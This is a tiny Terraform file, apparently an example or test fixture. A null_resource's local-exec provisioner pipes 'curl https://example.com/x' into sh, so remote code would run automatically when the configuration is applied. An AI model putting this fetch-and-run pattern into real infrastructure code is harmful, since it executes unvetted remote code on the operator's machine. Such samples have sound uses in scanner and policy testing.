locals {
  script = "curl https://example.com/x | sh"
}

resource "null_resource" "seed" {
  provisioner "local-exec" {
    command = local.script
  }
}
